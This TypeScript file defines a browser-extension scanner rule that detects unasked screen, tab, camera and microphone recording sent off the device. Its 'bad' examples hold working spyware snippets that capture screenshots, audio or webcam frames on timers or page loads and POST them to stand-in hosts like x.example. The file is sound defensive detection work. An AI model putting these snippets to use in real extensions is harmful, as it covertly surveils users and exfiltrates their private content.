import { saidPurpose } from '../../facts/extension/saidPurpose.ts';
import { scriptsOfAllSites } from '../../facts/extension/scriptsOfAllSites.ts';
import {
  apiPath,
  type Call,
  callsOf,
  constant,
  nameOf,
  pattern,
  propertyOf,
  type ScriptFacts,
  scriptsOf,
} from '../../facts/javascript/query.ts';
import { resolveReference } from '../../facts/resolveReference.ts';
import type { Facts } from '../../facts.ts';
import { defineRule } from '../../rule.ts';
import { backgroundExample, checkScripts, contentExample } from './checkScripts.ts';
import { RECORDED } from '../../extension/interfaceSources.ts';
import { gravest, sendingsOf } from './flowOut.ts';
import { isAtStart, unaskedCalls } from '../../program/unasked.ts';
import { say } from '../../../texts/say.ts';
import { isOrdered } from './screenOrders.ts';

const CAPTURES = [
  'chrome.tabs.captureVisibleTab',
  'chrome.tabs.captureTab',
  'chrome.pageCapture.saveAsMHTML',
  'chrome.tabCapture.capture',
  'chrome.desktopCapture.chooseDesktopMedia',
  'navigator.mediaDevices.getUserMedia',
  'navigator.mediaDevices.getDisplayMedia',
];

/** These ask the person for camera, microphone or screen in the name of the page. */
const DEVICES: ReadonlySet<string> = new Set([
  'navigator.mediaDevices.getUserMedia',
  'navigator.mediaDevices.getDisplayMedia',
]);

export const screenWatched = defineRule({
  id: 'screen-watched',
  title: 'Records the screen, camera or microphone without being asked',
  severity: 'high',
  confidence: 'medium',
  category: 'privacy',
  applies: 'extension',
  cwe: 'CWE-359',
  cap: { grade: 'D', reason: 'it records without being asked', from: 'critical' },
  references: ['https://attack.mitre.org/techniques/T1113/'],
  why: 'A screenshot shows mail, money and messages from every site. Taken on a timer or on every page, it is surveillance.',
  remedy: 'Record only after a click, show that it happens, and keep the result on the device.',
  check: checkScripts(function* ({ script, file, facts, hit }) {
    // `const original = devices.getDisplayMedia.bind(devices)` asks for nothing yet.
    const captures = callsOf(script, ...CAPTURES).filter(({ callee }) => nameOf(script, callee) !== 'bind');
    if (captures.length === 0) return;
    const unasked = unaskedCalls(script);
    const isInEveryPage = facts.whole(scriptsOfAllSites).has(file.path);
    for (const call of captures) {
      const out = sentTo(facts, script, call);
      const alone =
        unasked.get(call.value) ??
        (out !== undefined && isOrdered(facts, script, call) ? 'pages that are opened' : undefined) ??
        (isAtStart(script, call.pos) ? opensHidden(facts, file.path) : undefined);
      if (alone !== undefined && out !== undefined)
        yield hit(call.value, {
          severity: 'critical',
          confidence: unasked.has(call.value) ? 'high' : 'medium',
          message: say('recorded-alone-sent', alone, out),
        });
      else if (isTabOpened(script, call) && isAtStart(script, call.pos) && !saysItRecords(facts))
        yield* recordedByOpening(facts, script, call).map((to) =>
          hit(call.value, { severity: 'critical', confidence: 'high', message: say('tab-recording-sent', to) }),
        );
      else if (out !== undefined && isRecording(script, call))
        yield hit(call.value, {
          severity: 'medium',
          message: say('tab-recording-sent', out),
        });
      else if (out !== undefined) yield hit(call.value, { severity: 'low', message: say('recording-sent', out) });
      else if (isInEveryPage && DEVICES.has(apiPath(script, call.callee) ?? '') && isAtStart(script, call.pos))
        yield hit(call.value, {
          // Pictures and sounds go through canvases, recorders and connections: where to is seldom seen.
          severity: 'critical',
          confidence: 'high',
          message: say('opens-camera'),
        });
      else if (alone !== undefined)
        yield hit(call.value, { severity: 'medium', confidence: 'low', message: say('started-by', alone) });
    }
  }),
  examples: {
    bad: [
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Louder tabs", "version": "1.0", "permissions": ["tabCapture"], "action": {"default_popup": "p.html"}}',
          'p.html': '<input type="range"><script src="p.js"></script>',
          'p.js':
            'chrome.tabCapture.capture({ audio: true }, (stream) => { const r = new MediaRecorder(stream); r.ondataavailable = (e) => { const f = new FormData(); f.append("chunk", e.data); fetch("https://up.example/c", { method: "POST", body: f }); }; r.start(10000); });',
        },
      },
      backgroundExample(
        'setInterval(() => { chrome.tabs.captureVisibleTab(null, { format: "png" }, (url) => { fetch("https://x.example/shot", { method: "POST", body: url }); }); }, 30000);',
      ),
      backgroundExample(
        'chrome.tabs.onUpdated.addListener(async (id, info) => { const shot = await chrome.tabs.captureVisibleTab(); await fetch("https://x.example/s", { method: "POST", body: JSON.stringify({ shot }) }); });',
      ),
      backgroundExample(
        'chrome.alarms.onAlarm.addListener(() => watch()); function watch() { chrome.tabs.captureVisibleTab((u) => chrome.storage.local.set({ u })); }',
      ),
      backgroundExample(
        'async function go() { const s = await navigator.mediaDevices.getUserMedia({ audio: true }); const r = new MediaRecorder(s); const ws = new WebSocket("wss://x.example"); ws.send(await read(s)); }',
      ),
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "bg.js"}, "content_scripts": [{"matches": ["<all_urls>"], "js": ["c.js"]}]}',
          'bg.js':
            'chrome.runtime.onMessage.addListener(async (m, s) => { if (m.type !== "view") return; const shot = await chrome.tabs.captureVisibleTab(s.tab.windowId); await fetch("https://x.example/s", { method: "POST", body: shot }); });',
          'c.js':
            'window.addEventListener("load", () => setTimeout(() => chrome.runtime.sendMessage({ type: "view" }), 1100));',
        },
      },
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "bg.js"}, "permissions": ["offscreen"]}',
          'bg.js':
            'chrome.runtime.onStartup.addListener(() => chrome.offscreen.createDocument({ url: "off.html", reasons: ["USER_MEDIA"], justification: "x" }));',
          'off.html': '<script src="off.js"></script>',
          'off.js':
            'navigator.mediaDevices.getUserMedia({ audio: true }).then((s) => { const r = new MediaRecorder(s); r.ondataavailable = (e) => { const f = new FormData(); f.append("a", e.data); fetch("https://x.example/a", { method: "POST", body: f }); }; r.start(10000); });',
        },
      },
      contentExample(
        'navigator.mediaDevices.getUserMedia({ video: true }).then((s) => { const v = document.createElement("video"); v.srcObject = s; v.play(); const c = document.createElement("canvas"); setInterval(() => { c.getContext("2d").drawImage(v, 0, 0); c.toBlob((b) => fetch("https://x.example/f", { method: "POST", body: b })); }, 5000); });',
      ),
    ],
    good: [
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Louder tabs", "version": "1.0", "permissions": ["tabCapture"], "action": {"default_popup": "p.html"}}',
          'p.html': '<input type="range"><script src="p.js"></script>',
          'p.js':
            'chrome.tabCapture.capture({ audio: true }, (stream) => { const c = new AudioContext(); const g = c.createGain(); c.createMediaStreamSource(stream).connect(g).connect(c.destination); });',
        },
      },
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "content_scripts": [{"matches": ["<all_urls>"], "js": ["main.js"], "world": "MAIN"}]}',
          'main.js':
            'const devices = navigator.mediaDevices; const original = devices.getDisplayMedia.bind(devices); devices.getDisplayMedia = async (options) => { console.info("asked"); return original(options); };',
        },
      },
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "bg.js"}, "content_scripts": [{"matches": ["<all_urls>"], "js": ["c.js"]}]}',
          'bg.js':
            'chrome.runtime.onMessage.addListener(async (m, s) => { if (m.type !== "view") return; const shot = await chrome.tabs.captureVisibleTab(s.tab.windowId); chrome.action.setBadgeText({ text: "1" }); save(shot); });',
          'c.js':
            'function take() { chrome.runtime.sendMessage({ type: "view" }); } button.addEventListener("click", () => setTimeout(take, 100));',
        },
      },
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "bg.js"}, "content_scripts": [{"matches": ["<all_urls>"], "js": ["c.js"]}]}',
          'bg.js':
            'chrome.runtime.onMessage.addListener(async (m, s) => { if (m.type === "view") show(await chrome.tabs.captureVisibleTab(s.tab.windowId)); });',
          'c.js':
            'window.addEventListener("load", () => setTimeout(() => chrome.runtime.sendMessage({ type: "view" }), 1100));',
        },
      },
      backgroundExample(
        'chrome.action.onClicked.addListener(async () => { const url = await chrome.tabs.captureVisibleTab(); chrome.tabs.create({ url: "edit.html#" + url }); });',
      ),
      backgroundExample(
        'button.onclick = async () => { const stream = await navigator.mediaDevices.getDisplayMedia(); video.srcObject = stream; };',
      ),
      backgroundExample(
        'setInterval(() => refresh(), 1000); chrome.action.onClicked.addListener(() => chrome.tabs.captureVisibleTab((u) => show(u)));',
      ),
    ],
  },
});

/** `getUserMedia({ video: { mandatory: { chromeMediaSource: 'tab' } } })`: a tab is recorded without the browser's asking. */
function isRecording(script: ScriptFacts, call: Call): boolean {
  const asked = call.args[0] ?? 0;
  return ['video', 'audio'].some(
    (kind) =>
      constant(
        script,
        propertyOf(script, propertyOf(script, propertyOf(script, asked, kind), 'mandatory'), 'chromeMediaSource'),
      ) === 'tab',
  );
}

/** A tab of which the browser gives sight and sound without asking. */
const isTabOpened = (script: ScriptFacts, call: Call): boolean =>
  apiPath(script, call.callee) === 'chrome.tabCapture.capture' || isRecording(script, call);

/**
 * Where the sound or picture of a tab is sent that a popup records as soon as it is open: the browser asks nobody before,
 * and who opens it for something else does not know of it.
 */
function recordedByOpening(facts: Facts, script: ScriptFacts, call: Call): readonly string[] {
  const sent = gravest(facts, sendingsOf(facts, script, call.value, RECORDED));
  return sent?.confidence === 'high' ? [sent.flow.sink.to ?? '*'] : [];
}

/** Words of those who say that they record, show or write down what is seen or heard. */
const RECORDS =
  /record|captur|captio|transcri|screen|cast|stream|share|translat|subtitle|meeting|summar|note|identif|recogni|shazam|song|music|speech|voice|aufnahme|aufzeich/;

const saysItRecords = (facts: Facts): boolean => RECORDS.test(facts.whole(saidPurpose));

/** What opens the hidden document that a script runs in, where that happens by itself. */
function opensHidden(facts: Facts, path: string): string | undefined {
  const pages = [...facts.having('html')].flatMap(([file, { scripts }]) =>
    scripts.some(({ src }) => src !== undefined && resolveReference(file.path, src) === path) ? [file.path] : [],
  );
  for (const { script } of scriptsOf(facts)) {
    const unasked = unaskedCalls(script);
    for (const call of callsOf(script, 'chrome.offscreen.createDocument')) {
      const url = pattern(script, propertyOf(script, call.args[0] ?? 0, 'url'));
      const event = unasked.get(call.value) ?? (isAtStart(script, call.pos) ? 'chrome.runtime' : undefined);
      if (event !== undefined && pages.some((page) => url.endsWith(page))) return event;
    }
  }
  return undefined;
}

/** Where what a call records is sent; camera, microphone and screen are told by whoever hears of them. */
function sentTo(facts: Facts, script: ScriptFacts, call: Call): string | undefined {
  const isHeard = !/^chrome\.(?:tabs|pageCapture)\./.test(apiPath(script, call.callee) ?? '');
  const sent = gravest(facts, sendingsOf(facts, script, call.value, isHeard ? RECORDED : undefined));
  return sent === undefined || sent.severity === 'low' ? undefined : (sent.flow.sink.to ?? '*');
}
